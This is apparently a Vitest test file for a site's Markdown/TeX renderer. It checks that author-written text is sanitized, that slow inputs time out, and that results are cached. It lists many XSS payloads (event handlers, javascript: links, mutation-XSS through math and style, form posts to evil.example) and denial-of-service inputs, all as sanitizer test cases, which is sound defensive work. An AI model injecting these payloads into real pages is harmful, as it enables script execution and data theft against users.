import rehypeRaw from 'rehype-raw'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { isTooDeep } from '#server/statement/bounds.ts'
import { mapElements, type Root } from '#server/statement/hast.ts'
import { createHtmlMemory } from '#server/statement/html-memory.ts'
import { renderMarkdown } from '#server/statement/render.ts'
import { createRenderPool } from '#server/statement/render-pool.ts'
import { createStatements } from '#server/statement/statements.ts'
import { startServer, type TestServer } from '#support/node/server.ts'

const payloads: readonly [name: string, markdown: string][] = [
  ['image with an error handler', '<img src=x onerror="alert(1)">'],
  ['svg with a load handler', '<svg onload="alert(1)"><circle/></svg>'],
  ['details with a toggle handler', '<details open ontoggle="alert(1)">x</details>'],
  ['script', '<script>alert(1)</script>'],
  ['script link', '<a href="javascript:alert(1)">x</a>'],
  ['script link with a tab', '<a href="java&#9;script:alert(1)">x</a>'],
  ['script link with a line feed and case', '<a href=" JaVa\nScRiPt:alert(1)">x</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frame with a script', '<iframe src="javascript:alert(1)"></iframe>'],
  [
    'code that closes a text area',
    '```\n</textarea><img src=x onerror=alert(1)>\n```\n\n<textarea></textarea><img src=x onerror=alert(1)>',
  ],
  ['style sheet', '<style>@import url(//evil.example/a.css);body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:url(//evil.example/a)">x</p>'],
  ['base', '<base href="//evil.example/">'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=//evil.example">'],
  ['link element', '<link rel="stylesheet" href="//evil.example/a.css">'],
  ['remote picture', '![x](https://evil.example/a.png) <img src="//evil.example/b.png" alt="y">'],
  [
    'remote source set',
    '<picture><source srcset="//evil.example/a"><img srcset="//evil.example/b"></picture>',
  ],
  ['Markdown script link', '[x](javascript:alert(1)) ![y](javascript:alert(1)) <javascript:alert(1)>'],
  ['TeX link', '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$'],
  ['TeX picture', '$\\includegraphics[alt=x]{https://evil.example/a.png}$'],
  [
    'TeX HTML',
    '$\\htmlData{a=b}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\text{<img src=x onerror=alert(1)>}$',
  ],
  [
    'mutation through math',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['object', '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">'],
  [
    'form',
    '<form action="//evil.example"><input name="password" autofocus onfocus="alert(1)"><button>x</button></form>',
  ],
  ['named element', '<a id="app" name="cookie">x</a><img name="getElementById" src="/a.png">'],
  [
    'template and noscript',
    '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ['comment and CDATA', '<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]>'],
]

interface Found {
  elements: string[]
  attributes: string[]
}

/** What a browser would make of it: the names of elements, and attributes with their values. */
const readHtml = (html: string): Found => {
  const found: Found = { elements: [], attributes: [] }
  const tree = rehypeRaw()({ type: 'root', children: [{ type: 'raw', value: html }] }, undefined as never)
  mapElements(tree as Root, (element) => {
    found.elements.push(element.tagName)
    for (const [name, value] of Object.entries(element.properties)) {
      found.attributes.push(`${name.toLowerCase()}=${Array.isArray(value) ? value.join(' ') : value}`)
    }
    return element
  })
  return found
}

const forbidden = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'base',
  'meta',
  'link',
  'form',
  'input',
  'button',
]
const closed = ['textarea', 'template', 'noscript', 'picture', 'source']

describe('no written text runs in the browser of its reader', () => {
  test.each(payloads)('%s', async (_, markdown) => {
    const { elements, attributes } = readHtml(await renderMarkdown(markdown))
    expect(elements.filter((name) => [...forbidden, ...closed].includes(name))).toEqual([])
    expect(
      attributes.filter((text) => text.startsWith('on') || /^(?:srcset|srcdoc|name)=/.test(text)),
    ).toEqual([])
    expect(attributes.filter((text) => /^(?:href|src)=\s*(?:javascript|data:text)/i.test(text))).toEqual([])
    expect(attributes.filter((text) => /^src=(?:https?:)?\/\//.test(text))).toEqual([])
    expect(attributes.filter((text) => /^id=(?!user-content-)/.test(text))).toEqual([])
    expect(attributes.filter((text) => /^style=.*(?:url|position:fixed)/.test(text))).toEqual([])
  })

  test('the reader of these tests sees what it has to find', () => {
    expect(readHtml('<p><img src="//evil.example/a" onerror="x"></p>')).toEqual({
      elements: ['p', 'img'],
      attributes: ['src=//evil.example/a', 'onerror=x'],
    })
  })
})

describe('what authors may write', () => {
  test.each([
    ['tables', '| a | b |\n|---|---|\n| 1 | 2 |', '<th>a</th>'],
    ['highlighted code', '```cpp\nint main() {}\n```', '<span class="hljs-type">int</span>'],
    ['code in an unknown language', '```nothing\nx\n```', '<code class="hljs language-nothing">x'],
    ['inline TeX', 'If $n$ is', '<annotation encoding="application/x-tex">n</annotation>'],
    ['displayed TeX', '$$\n\\sum_{i=1}^n i\n$$', '<span class="katex-display">'],
    ['displayed TeX on one line', 'So\n\n$$\\sum_{i=1}^n i$$', '<span class="katex-display">'],
    ['TeX for screen readers', '$x^2$', '<math xmlns="http://www.w3.org/1998/Math/MathML">'],
    ['Chinese text in TeX', '$\\text{长度}$', '长度'],
    ['own pictures', '![map](/ojapi/public/img/0a.png)', '<img src="/ojapi/public/img/0a.png" alt="map">'],
    [
      'written pictures',
      '![dot](data:image/png;base64,iVBORw0=)',
      '<img src="data:image/png;base64,iVBORw0=',
    ],
    ['foreign pictures as links', '![map](https://example.org/a.png)', '<a href="https://example.org/a.png"'],
    ['links', '[x](https://example.org)', 'rel="noopener noreferrer nofollow"'],
    ['footnotes', 'x[^1]\n\n[^1]: y', 'href="#user-content-fn-1"'],
    ['harmless HTML', '<p align="center">x<sub>i</sub></p>', '<p align="center">x<sub>i</sub></p>'],
    ['wrong TeX', 'before $\\frac{1$ after', 'katex-error'],
  ])('%s', async (_, markdown, expected) => {
    expect(await renderMarkdown(markdown)).toContain(expected)
  })

  test('nothing gives nothing', async () => {
    expect(await renderMarkdown(' \n')).toBe('')
  })
})

describe('texts made to be slow', () => {
  test.each([
    ['a macro without end', '$\\def\\a{\\a\\a}\\a$'],
    [
      'macros of macros',
      `$$\n${[...'abcdefg'].map((name, i) => `\\def\\${name}{${`\\${'bcdefgh'[i]}`.repeat(10)}}`).join('')}\\a\n$$`,
    ],
    ['a huge rule', '$\\rule{999999em}{999999em}$'],
    ['deep braces', `$${'{'.repeat(3_900)}$`],
    ['thousands of formulas', '$\\frac{1}{2}$ '.repeat(1_000)],
    ['deep quotes', `${'> '.repeat(3_000)}x`],
    ['deep HTML', '<div>'.repeat(30_000)],
    ['a text of many megabytes', 'a b\n\n'.repeat(1_000_000)],
  ])('%s', async (_, markdown) => {
    const html = await renderMarkdown(markdown)
    expect(html.length).toBeGreaterThan(0)
    expect(readHtml(html.slice(0, 100_000)).elements).not.toContain('script')
    expect(html).not.toMatch(/999999em;/)
  })

  const slowText = '![a]('.repeat(40_000)

  test('are given up, shown as written, and nobody behind them is lost', async () => {
    const pool = createRenderPool({ limitMs: 300 })
    const slow = pool.render(slowText)
    const quick = pool.render('*quick*')
    expect(await slow).toMatchObject({
      complete: false,
      html: expect.stringMatching(/^<pre>!\[a\]\(/),
    })
    expect((await quick).html).toMatch(/quick/)
    await pool.close()
  })

  test.each(['>', '> ', '- ', '1. '])(
    'of thousands of %j in one another are shown as written at once',
    async (mark) => {
      const pool = createRenderPool({ limitMs: 1 })
      const deep = mark.repeat(10_000)
      expect(await pool.render(`first\n\n${deep}x`)).toMatchObject({
        complete: true,
        html: expect.stringMatching(/^<pre>first/),
      })
      await pool.close()
    },
  )

  const inRows = (row: (level: number) => string, levels: number) =>
    Array.from({ length: levels }, (_, level) => row(level)).join('\n')
  test.each([
    ['lists within lists', inRows((level) => `${'  '.repeat(level)}- a`, 400)],
    ['quotes that grow', inRows((level) => `${'>'.repeat(level + 1)} a`, 99)],
    ['many deep quotes', `${'>'.repeat(31)} a\n`.repeat(2_000)],
    ['deep lists with long texts', `- a\n${`${' '.repeat(62)}a\n\n`.repeat(2_000)}`],
  ])('of %s are shown as written at once', async (_, markdown) => {
    const pool = createRenderPool({ limitMs: 1 })
    expect(await pool.render(markdown)).toMatchObject({
      complete: true,
      html: expect.stringMatching(/^<pre>/),
    })
    await pool.close()
  })

  test.each([
    ['lists', inRows((level) => `${'  '.repeat(level % 6)}- a`, 2_000)],
    ['a long program', `\`\`\`cpp\n${'        if (a > b) - c;\n'.repeat(2_000)}\`\`\``],
    ['a quoted letter', '> > > said\n'.repeat(500)],
  ])('are told from %s that people write', (_, markdown) => expect(isTooDeep(markdown)).toBe(false))

  test('end when they have had their processor time', async () => {
    const pool = createRenderPool({ limitMs: 600_000, cpuMs: 100 })
    expect(await pool.render(slowText)).toMatchObject({ complete: false })
    expect((await pool.render('*quick*')).html).toMatch(/quick/)
    await pool.close()
  })

  test('that were given up are kept for a while, and in memory alone', async () => {
    let now = 0
    const memory = createHtmlMemory({ now: () => now })
    memory.keep('slow', { html: '<pre>x</pre>', complete: false })
    memory.keep('quick', { html: '<p>x</p>', complete: true })
    now = 60_000
    expect([memory.get('slow'), memory.get('quick')]).toEqual(['<pre>x</pre>', '<p>x</p>'])
    now = 60_001
    expect([memory.get('slow'), memory.get('quick')]).toEqual([undefined, '<p>x</p>'])
    const server = await startServer()
    const statements = createStatements(server.db, { limitMs: 1 })
    expect(await statements.render(slowText)).toMatch(/^<pre>/)
    expect(await server.db.selectFrom('renderedMarkdown').selectAll().execute()).toEqual([])
    await statements.close()
    await server.close()
  })

  test('make room for others when memory is full', () => {
    const memory = createHtmlMemory()
    const html = 'x'.repeat(6 * 1024 * 1024)
    for (const hash of ['a', 'b', 'c']) {
      memory.keep(hash, { html, complete: true })
      memory.get('a')
    }
    expect(['a', 'b', 'c'].map((hash) => memory.get(hash)?.length)).toEqual([
      html.length,
      undefined,
      html.length,
    ])
  })
})

describe('rendered texts are kept', () => {
  let server: TestServer
  beforeAll(async () => {
    server = await startServer()
  })
  afterAll(() => server?.close())

  test('by their content, for every web node', async () => {
    const [one, other] = [createStatements(server.db), createStatements(server.db)]
    const markdown = 'Kept **once**'
    const answers = await Promise.all(Array.from({ length: 5 }, () => one.render(markdown)))
    expect(new Set(answers)).toEqual(new Set(['<p>Kept <strong>once</strong></p>']))
    const rows = await server.db.selectFrom('renderedMarkdown').selectAll().execute()
    expect(rows).toHaveLength(1)
    await server.db.updateTable('renderedMarkdown').set({ html: '<p>from the database</p>' }).execute()
    expect(await other.render(markdown)).toBe('<p>from the database</p>')
    expect(await one.render(markdown)).toBe('<p>Kept <strong>once</strong></p>')
    await Promise.all([one.close(), other.close()])
  })
})

describe('a PDF of the site in the place of a picture', () => {
  const pdf = `/ojapi/public/file/${'0a'.repeat(16)}.pdf`

  test('is shown in a frame below a link, a few times at most', async () => {
    const html = await renderMarkdown(`![the paper](${pdf})`)
    expect(html).toContain(`<a href="${pdf}" download>the paper</a>`)
    expect(html).toContain(`<iframe src="${pdf}?show" title="the paper"`)
    const many = await renderMarkdown(`![x](${pdf}) `.repeat(30))
    expect(many.match(/<iframe/g)).toHaveLength(4)
    expect(many.match(/<a href/g)).toHaveLength(30)
  })

  test.each([
    `![x](https://evil.example${pdf})`,
    `![x](/ojapi/public/img/${'0a'.repeat(16)}.pdf)`,
    '![x](/ojapi/public/file/../../logout.pdf)',
    `![x](${pdf}?x=1)`,
    `<iframe src="${pdf}"></iframe>`,
    `[x](${pdf})`,
  ])('nothing else is: %s', async (markdown) => {
    expect(await renderMarkdown(markdown)).not.toContain('<iframe')
  })
})
